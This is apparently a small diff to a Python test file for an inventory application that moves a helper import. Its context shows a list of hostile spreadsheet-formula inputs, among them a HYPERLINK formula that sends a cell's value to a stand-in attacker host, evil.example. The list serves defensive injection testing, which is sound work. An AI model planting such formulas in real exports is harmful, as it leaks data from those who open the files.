@@ -5,11 +5,11 @@ import csv
 import sqlite3
 
 import pytest
-from conftest import dump
 from openpyxl import load_workbook
 
 from inventory_app.core.errors import RejectedInput
 from inventory_app.core.tabular import read_delimited
+from tests.support import dump
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")', "+41 1234", "-2+3", "@SUM(A1:A3)",
            "\tsarkain", "'=jo lainausmerkki"]
